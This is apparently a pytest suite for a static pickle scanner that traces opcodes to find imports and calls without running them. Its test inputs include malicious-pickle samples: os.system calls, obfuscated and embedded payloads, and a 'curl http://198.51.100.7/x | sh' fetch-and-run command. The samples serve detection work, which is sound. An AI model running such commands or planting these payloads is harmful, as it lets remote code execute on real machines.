"""The machine: grammar, stack, memo and frames as CPython's C unpickler has them."""

from __future__ import annotations

import pickle
import pickletools
import struct

import pytest

from tests.corpus.assemble import Call, Raw, call, name, short, stack_name, stream, value
from weighbridge.formats.pickle import Brief, Items, Made, Name, Unknown, render, trace
from weighbridge.formats.pickle import opcodes as table
from weighbridge.schema import Limits


def run(data, limits=None, **brief):
    return trace(
        lambda offset, length: data[offset : offset + length], len(data), 0, limits or Limits(), Brief(**brief)
    )


def test_the_table_knows_all_256_bytes_and_names_them_as_the_standard_library_does():
    known = {ord(op.code): op.name for op in pickletools.opcodes}
    assert len(known) == 68
    for byte in range(256):
        assert table.NAME[byte] == known.get(byte, "INVALID")
        assert (table.SHAPE[byte] == table.INVALID) == (byte not in known)


@pytest.mark.parametrize("protocol", range(6))
def test_real_pickles_are_read_to_their_end(protocol):
    data = pickle.dumps({"a": [1, 2.5, "x" * 300, (b"y", None, True)], 2**80: {1, 2}, "f": print}, protocol)
    found = run(data)
    assert found.finished
    assert found.end == len(data)
    assert [item.name.name for item in found.imports if item.name.name == "print"] == ["print"]


@pytest.mark.parametrize("protocol", range(6))
def test_calls_are_shown_with_their_arguments(protocol):
    found = run(pickle.dumps(Call(print, "curl http://198.51.100.7/x | sh", 7), protocol))
    (made,) = found.calls
    assert isinstance(made.target, Name)
    assert render(made.arguments) == "('curl http://198.51.100.7/x | sh', 7)"


def test_names_are_resolved_through_the_memo():
    data = b"\x80\x04" + short("os") + b"\x94" + short("system") + b"\x9400h\x00h\x01\x93."
    assert run(data).imports[0].name == Name("os", "system")


def test_overwritten_memo_slots_give_the_last_value():
    data = b"\x80\x04" + short("math") + b"q\x00" + short("os") + b"q\x0000h\x00" + short("system") + b"\x93."
    assert run(data).imports[0].name == Name("os", "system")


def test_memoize_counts_distinct_indices_as_cpython_does():
    # PUT at 0 twice makes one entry, so MEMOIZE takes index 1.
    data = b"\x80\x04" + short("a") + b"q\x00q\x00" + short("os") + b"\x94" + b"00h\x01" + short("x") + b"\x93."
    assert run(data).imports[0].name == Name("os", "x")


def test_a_computed_name_is_unresolved_and_not_forgotten():
    data = stream(Raw(value(call("codecs.decode", "bf", "rot13")) + short("system") + b"\x93"))
    (found,) = run(data).unresolved
    assert "codecs.decode('bf', 'rot13')" in render(found.arguments)


def test_results_of_calls_can_be_called():
    found = run(stream(call(call("pkgutil.resolve_name", "os:system"), "id")))
    target = found.calls[1].target
    assert isinstance(target, Made)
    assert render(target) == "pkgutil.resolve_name('os:system')"


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"\x80\x04K\x01", "without STOP"),
        (b"\x80\x04\xff.", "invalid opcode 0xff"),
        (b"0.", "underflow"),
        (b"t.", "MARK is missing"),
        (b"h\x07.", "never set"),
        (b"\x80\x07.", "does not exist"),
        (b"X\xff\x00\x00\x00ab", "claims 255 bytes"),
        (b"K\x01K\x02\x93.", "two strings"),
        (b"K\x01)R.", "cannot be called"),
        (b"}(K\x01u.", "without a value"),
        (b"T\xff\xff\xff\xffab.", "negative length"),
    ],
)
def test_breaks_are_told_with_their_reason(data, reason):
    found = run(data)
    assert not found.finished
    assert reason in found.broken
    assert found.c_broken_at >= 0


def test_what_ran_before_a_break_is_kept():
    found = run(stream(call("os.system", "id"))[:-1] + b"\xff")
    assert found.calls[0].target == Name("os", "system")
    assert not found.finished


@pytest.mark.parametrize("text", [b"0x10", b"0o17", b"017", b"1\x00zz", b"\x00", b"\x00zz"])
def test_numbers_that_only_the_c_reader_takes_are_a_quirk(text):
    found = run(b"I" + text + b"\n.")
    assert found.finished
    assert "text number" in found.quirks


@pytest.mark.parametrize("text", [b"7", b"-3", b"00", b"01"])
def test_ordinary_numbers_are_not(text):
    assert not run(b"I" + text + b"\n.").quirks


def test_a_frame_that_cuts_an_argument_is_a_quirk():
    body = short("hello") + b"."
    assert "frame" in run(b"\x80\x04\x95" + struct.pack("<Q", 3) + body).quirks
    assert "frame" not in run(b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body).quirks


@pytest.mark.parametrize(("limit", "bound"), [("opcodes", 100), ("memo", 50), ("imports", 3)])
def test_every_bound_ends_the_run_and_is_named(limit, bound):
    body = b"".join(value(name("m", f"n{i}")) + b"\x940" for i in range(200))
    found = run(b"\x80\x04" + body + b"N.", Limits(**{limit: bound}))
    assert found.limit == limit
    assert not found.finished


def test_huge_lengths_and_indices_cost_nothing():
    assert "claims" in run(b"\x8e" + b"\xff" * 8).broken
    assert run(b"Nr\xff\xff\xff\x7f.").finished


def test_deep_nesting_is_measured_without_recursion():
    found = run(b"(" * 100_000 + b"t" * 100_000 + b".")
    assert found.finished
    assert found.depth == 100_000


def test_contents_that_left_the_ring_are_forgotten_and_say_so():
    early = value(("x",)) + b"q\x00"
    filler = b"".join(b"K\x01\x85" for _ in range(400_000))
    data = b"\x80\x02" + early + b"(" + filler + b"1" + b"cos\nsystem\nh\x00R."
    (found,) = run(data).calls
    assert isinstance(found.arguments, Items)
    assert found.arguments.total == -1
    assert not found.arguments.whole


def test_repeated_calls_are_counted_and_differing_ones_kept():
    same = b"".join(value(call("m.f", 1)) + b"0" for _ in range(50))
    found = run(b"\x80\x02" + same + value(call("m.f", 2)) + b".")
    assert [made.count for made in found.calls] == [50, 1]


def test_strings_longer_than_a_window_do_not_hide_what_follows():
    data = b"\x80\x04X" + struct.pack("<I", 3_000_000) + b"a" * 3_000_000 + b"0" + value(call("os.system", "id")) + b"."
    assert run(data).calls[0].target == Name("os", "system")


@pytest.mark.parametrize("encode", ["raw", "base64", "hex", "zlib"])
def test_pickles_inside_constants_are_found(encode):
    import base64
    import zlib

    inner = stream(call("os.system", "id"))
    constant = {
        "raw": inner,
        "base64": base64.b64encode(inner).decode(),
        "hex": inner.hex(),
        "zlib": zlib.compress(inner),
    }[encode]
    (found,) = run(pickle.dumps([constant])).embedded
    assert found.trace.calls[0].target == Name("os", "system")


def test_unknown_values_are_rendered_as_such():
    assert render(Unknown("forgotten")) == "<forgotten>"
    assert render(Items("tuple", (1,), 5)) == "(1, …)"


def test_control_and_direction_characters_never_reach_the_reader():
    assert "\u202e" not in render(Name("os\u202e", "system\x1b"))
    assert stack_name("a", "b").code.endswith(b"\x93")


def test_classes_of_legacy_torch_modules_are_named():
    identifier = Raw(value(("module", name("os", "system"), "a.py", "source")) + b"Q")
    found = run(stream(call(identifier, "id"), protocol=2))
    assert found.calls[0].target == Name("os", "system")


def test_stored_bytecode_is_shown_and_not_made():
    from tests.corpus.techniques import _cloudpickle
    from weighbridge.formats.pickle import code_arguments, code_lines

    codes = [code_arguments(Made(made.target, made.arguments)) for made in run(_cloudpickle()).calls]
    lines = [line for code in codes if code for line in code_lines(code)]
    assert "names: open, close" in lines
    assert any("LOAD_GLOBAL" in line and "(open)" in line for line in lines)
